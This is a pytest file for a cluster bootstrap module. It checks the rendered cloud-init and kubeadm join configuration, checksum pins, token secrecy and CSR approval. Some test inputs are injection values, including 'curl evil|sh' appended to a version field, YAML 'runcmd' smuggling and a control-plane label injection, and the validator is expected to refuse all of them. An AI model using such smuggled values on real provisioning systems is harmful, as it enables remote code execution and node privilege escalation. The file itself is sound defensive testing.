"""The bootstrap document (deploy/bootstrap/cloud-init.yaml, rendered per machine).

kubeadm itself cannot be installed here, so its ``v1beta4`` JoinConfiguration is checked
against the API's field list, kept below; cloud-init's own ``schema`` command checks the
cloud-config where the ``cloud-init`` Debian package is installed (.ci/run installs it)."""

from __future__ import annotations

import base64
import subprocess
from datetime import datetime, timezone

import pytest

from fleet.cluster import gpufleet_provider_id
from tests.tools import needs
from providers.cluster.bootstrap import (
    DEFAULT_NODE_INSTALL,
    INSTALL_SCRIPT_PATH,
    PinnedSums,
    load_node_install,
    DISCOVERY_CONFIG_PATH,
    JOIN_CONFIG_PATH,
    read_join_discovery,
    BootstrapError,
    BootstrapToken,
    JoinParams,
    kubelet_args,
    read_cloud_config,
    read_join_configuration,
    render_user_data,
)

# kubeadm.k8s.io/v1beta4 (kubeadm >= 1.31), JoinConfiguration and the types it holds:
# https://kubernetes.io/docs/reference/config-api/kubeadm-config.v1beta4/
V1BETA4 = {
    "JoinConfiguration": {"apiVersion", "kind", "dryRun", "nodeRegistration", "caCertPath", "discovery",
                          "controlPlane", "skipPhases", "patches", "timeouts"},
    "nodeRegistration": {"name", "criSocket", "taints", "kubeletExtraArgs", "ignorePreflightErrors",
                         "imagePullPolicy", "imagePullSerial"},
    "discovery": {"bootstrapToken", "file", "tlsBootstrapToken"},
    "bootstrapToken": {"token", "apiServerEndpoint", "caCertHashes", "unsafeSkipCAVerification"},
    "timeouts": {"controlPlaneComponentHealthCheck", "kubeletHealthCheck", "kubernetesAPICall", "etcdAPICall",
                 "tlsBootstrap", "discovery", "upgradeManifests"},
    "taint": {"key", "value", "effect", "timeAdded"},
    "arg": {"name", "value"},
}
TOKEN = "abcdef.0123456789abcdef"
CA_DATA = base64.b64encode(b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").decode()


def params(**changes) -> JoinParams:
    values = dict(api_server="10.0.0.1:6443", ca_data=CA_DATA, token=TOKEN,
                  node_name="aws-use1-1a2b3c4d", provider_id=gpufleet_provider_id("aws", "aws-main", "aws-use1-1a2b3c4d"),
                  site="aws-use1")
    values.update(changes)
    return JoinParams(**values)


def test_the_join_configuration_is_kubeadm_v1beta4() -> None:
    config = read_join_configuration(render_user_data(params()))
    assert config["apiVersion"] == "kubeadm.k8s.io/v1beta4" and config["kind"] == "JoinConfiguration"
    assert set(config) <= V1BETA4["JoinConfiguration"]
    assert set(config["nodeRegistration"]) <= V1BETA4["nodeRegistration"]
    assert set(config["discovery"]) <= V1BETA4["discovery"]
    assert set(config.get("timeouts") or {}) <= V1BETA4["timeouts"]
    for taint in config["nodeRegistration"].get("taints") or []:
        assert set(taint) <= V1BETA4["taint"] and taint["effect"] in ("NoSchedule", "PreferNoSchedule", "NoExecute")
    # v1beta4: a list of {name, value}, not v1beta3's map.
    args = config["nodeRegistration"]["kubeletExtraArgs"]
    assert isinstance(args, list) and all(set(a) == V1BETA4["arg"] for a in args)
    assert kubelet_args(config)["provider-id"] == "gpufleet://aws/aws-main/aws-use1-1a2b3c4d"
    # The Node registers in its site's topology zone (the real kubelet's registration under
    # NodeRestriction: tests/realk8s/test_join.py).
    assert kubelet_args(config)["node-labels"] == "topology.kubernetes.io/zone=aws-use1"
    # File discovery: the machine uses the address it was given after discovery too (token
    # discovery would switch to cluster-info's own `server`, which a remote machine may not reach).
    assert config["discovery"] == {"file": {"kubeConfigPath": DISCOVERY_CONFIG_PATH}, "tlsBootstrapToken": TOKEN}
    discovery = read_join_discovery(render_user_data(params()))
    assert discovery.server == "https://10.0.0.1:6443" and discovery.ca_pem == base64.b64decode(CA_DATA)
    assert config["nodeRegistration"]["name"] == "aws-use1-1a2b3c4d"


def test_the_document_runs_the_install_step_then_kubeadm_join_and_removes_the_token_file() -> None:
    doc = read_cloud_config(render_user_data(params()))
    files = {f["path"]: f for f in doc["write_files"]}
    assert set(files) == {JOIN_CONFIG_PATH, DISCOVERY_CONFIG_PATH, INSTALL_SCRIPT_PATH}
    assert files[JOIN_CONFIG_PATH]["permissions"] == files[DISCOVERY_CONFIG_PATH]["permissions"] == "0600"
    # One shell line: cloud-init's runcmd script goes on past a failed command, `&&` does not.
    assert doc["runcmd"] == [f"sh {INSTALL_SCRIPT_PATH} && kubeadm join --config {JOIN_CONFIG_PATH}",
                             ["rm", "-f", JOIN_CONFIG_PATH, DISCOVERY_CONFIG_PATH]]
    assert TOKEN.split(".")[1] not in files[INSTALL_SCRIPT_PATH]["content"]


def test_the_document_fits_the_smallest_user_data_a_provider_takes() -> None:
    """AWS takes 16 KB of user data (before base64), Hetzner 32 KiB, Lambda 1 MB: the document,
    install step included, with a kubeadm CA of a 4096-bit RSA key (the largest kubeadm makes)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=4096)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "kubernetes")])
    now = datetime.now(timezone.utc)
    ca = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
          .serial_number(1).not_valid_before(now).not_valid_after(now.replace(year=now.year + 10))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True).sign(key, hashes.SHA256()))
    ca_data = base64.b64encode(ca.public_bytes(serialization.Encoding.PEM)).decode()
    shipped = load_node_install(DEFAULT_NODE_INSTALL)
    pinned = shipped.model_copy(update={"sha256": {arch: PinnedSums(**{p: "f" * 64 for p in PinnedSums.model_fields})
                                                   for arch in ("amd64", "arm64")}})
    size = len(render_user_data(params(ca_data=ca_data), install=pinned).encode())
    assert size <= 16 * 1024, size


def test_the_shipped_pins_are_valid_and_pin_no_unchecked_sum() -> None:
    pins = load_node_install(DEFAULT_NODE_INSTALL)
    assert pins.versions.kubernetes.startswith("v1.") and set(pins.sha256) == {"amd64", "arm64"}
    assert pins.unpinned("amd64") == list(PinnedSums.model_fields), "no sum nobody checked"


@pytest.mark.parametrize("field, value", [
    ("versions.kubernetes", "1.36.3"), ("versions.containerd", "2.4.2; curl evil|sh"),
    ("sha256.amd64.kubelet", "F" * 64), ("sha256.amd64.runc", "abc"), ("sha256.amd64.surprise", "0" * 64),
])
def test_pins_that_could_break_the_script_are_refused_by_name(tmp_path, field, value) -> None:
    import yaml

    raw = yaml.safe_load(DEFAULT_NODE_INSTALL.read_text())
    section, *rest = field.split(".")
    target = raw[section]
    for step in rest[:-1]:
        target = target[step]
    target[rest[-1]] = value
    (tmp_path / "pins.yaml").write_text(yaml.safe_dump(raw))
    with pytest.raises(BootstrapError) as refused:
        load_node_install(tmp_path / "pins.yaml")
    assert field in str(refused.value) and value not in str(refused.value)


@needs("cloud-init")
def test_cloud_init_accepts_the_document(tmp_path) -> None:
    document = tmp_path / "user-data"
    document.write_text(render_user_data(params()))
    checked = subprocess.run(["cloud-init", "schema", "--config-file", str(document)], capture_output=True, text=True)
    assert checked.returncode == 0 and "Valid cloud-config" in checked.stdout, checked.stdout + checked.stderr


@needs("cloud-init")
def test_cloud_init_schema_can_fail(tmp_path) -> None:
    """The check above is a real one: a broken document is refused."""
    document = tmp_path / "user-data"
    document.write_text("#cloud-config\nwrite_files: 7\n")
    checked = subprocess.run(["cloud-init", "schema", "--config-file", str(document)], capture_output=True, text=True)
    assert "Valid cloud-config" not in checked.stdout


@pytest.mark.parametrize("field, value", [
    ("token", "abcdef.0123456789abcdeF"), ("token", 'abcdef.0123456789abcde"'),
    ("api_server", "10.0.0.1:6443\nruncmd: [evil]"), ("node_name", "Node_1"),
    ("provider_id", "gpufleet://aws/acct/x\n- rm"), ("ca_data", "bm90\nruncmd: [evil]"),
    # A line break at the very end: a pattern's ``$`` takes one before it.
    ("api_server", "10.0.0.1:6443\n"), ("node_name", "node-1\n"), ("provider_id", "gpufleet://aws/acct/x\n"),
    ("ca_data", "bm90\n"),
    # The site ends up in the kubelet's --node-labels: a comma or '=' would add a label of its choosing.
    ("site", "aws-use1,node-role.kubernetes.io/control-plane=x"), ("site", "aws-use1\n"), ("site", "Aws-Use1"),
    ("site", "a" * 55),
])
def test_a_value_that_could_break_the_document_is_refused_by_name(field, value) -> None:
    with pytest.raises(BootstrapError) as refused:
        render_user_data(params(**{field: value}))
    assert field in str(refused.value) and value not in str(refused.value)


def test_the_secret_is_in_no_repr() -> None:
    token = BootstrapToken(token_id="abcdef", node_name="n", expires_at=datetime.now(timezone.utc),
                           secret="0123456789abcdef")
    assert "0123456789abcdef" not in repr(token) and "0123456789abcdef" not in repr(params())
    assert "0123456789abcdef" not in token.ref.model_dump_json()


def _csr(signer: str, user: str, cn: str, **sans) -> dict:
    import base64

    from tests.cluster.sim_kubelet import csr_pem

    return {"metadata": {"name": "csr-1"}, "spec": {
        "signerName": signer, "username": user, "usages": ["digital signature", "client auth"],
        "request": base64.b64encode(csr_pem(cn, ["system:nodes"], **sans)).decode()}}


def test_the_approver_judges_only_what_is_gpufleets() -> None:
    from providers.cluster.base import CLIENT_SIGNER, csr_decision

    tokens = {"gpfl01": "node-a"}.get
    ours = {"node-a"}.__contains__
    no_addresses = lambda _node: None  # noqa: E731
    decide = lambda csr: csr_decision(csr, tokens, ours, no_addresses)  # noqa: E731
    assert decide(_csr(CLIENT_SIGNER, "system:bootstrap:gpfl01", "system:node:node-a")).approve
    denied = decide(_csr(CLIENT_SIGNER, "system:bootstrap:gpfl01", "system:node:node-b"))
    assert not denied.approve and "system:node:node-a only" in denied.reason
    assert decide(_csr(CLIENT_SIGNER, "system:node:node-a", "system:node:node-a")).approve, "a renewal"
    assert not decide(_csr(CLIENT_SIGNER, "system:node:node-a", "system:node:node-b")).approve
    # Not gpufleet's to judge: another token, another node, another signer, another requester.
    assert decide(_csr(CLIENT_SIGNER, "system:bootstrap:kubead", "system:node:node-z")) is None
    assert decide(_csr(CLIENT_SIGNER, "system:node:node-z", "system:node:node-z")) is None
    assert decide(_csr("example.com/other", "system:bootstrap:gpfl01", "system:node:node-a")) is None
    assert decide(_csr(CLIENT_SIGNER, "alice", "system:node:node-a")) is None
